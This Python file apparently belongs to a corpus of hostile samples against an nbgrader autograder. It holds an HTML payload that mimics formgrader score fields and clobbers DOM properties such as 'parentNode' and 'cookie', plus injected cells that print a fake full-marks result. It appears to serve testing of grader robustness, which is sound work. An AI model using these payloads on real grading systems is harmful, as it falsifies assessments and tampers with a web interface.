"""Draws the grader's own verdicts and formgrader's fields into its cells."""

from hostile.corpus import Attack

FIELDS = """<div class="panel panel-primary nbgrader_cell"><div class="panel-heading">
<input class="score tabbable" id="check-correlate1d" value="10"><button
class="btn full-credit">Full credit</button></div>
<textarea id="exercise-correlate1d-comment" class="comment"></textarea></div>
<a name="check-correlate1d" id="check-correlate1d" href="#check-correlate1d">x</a>
<form id="notebook"><input name="parentNode"></form><img name="cookie" alt="x">"""

attack = Attack(
    answers={"written-reflection_02": FIELDS},
    added={
        "setup-001": f"""
from IPython.display import HTML, display
display(HTML({FIELDS!r}))
print("TRIED")
""",
        "check-correlate1d": "10.0",
        "check-pad1d": "print('pad1d: 10 of 10 points')",
    },
    tried=True,
)
